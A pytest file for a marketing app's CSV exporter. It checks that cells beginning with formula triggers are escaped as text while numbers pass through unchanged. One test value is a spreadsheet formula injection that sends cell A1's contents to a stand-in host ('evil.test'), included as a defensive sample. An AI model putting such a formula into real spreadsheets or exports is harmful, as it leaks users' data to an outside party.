"""The one CSV writer of every export: formula triggers are written as text (pure, no database)."""

import csv
import io
from decimal import Decimal

import pytest

from smarketing.core.csv_export import CsvWriter, csv_cell, csv_lines, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.test/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.test/?"&A1,"Click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("paid_social", "paid_social"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (-12.5, -12.5),  # numbers stay numbers
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, "True"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_written_as_text(value, written):
    assert csv_cell(value) == written


def test_rows_read_back_as_the_escaped_text():
    rows = [["campaign", "nps"], ['=HYPERLINK("x")', -20.0], ["line\nbreak", 5]]
    text = csv_text(rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["campaign", "nps"],
        ['\'=HYPERLINK("x")', "-20.0"],
        ["line\nbreak", "5"],
    ]


def test_writer_and_chunked_lines_write_the_same_text():
    rows = [[f"=cell{n}", n] for n in range(5000)]
    stream = io.StringIO()
    CsvWriter(stream).writerows(rows)
    chunks = list(csv_lines(rows))
    assert len(chunks) > 1  # streamed in pieces of about 64 kB
    assert "".join(chunks) == stream.getvalue()
    assert stream.getvalue().startswith("'=cell0,0\r\n")
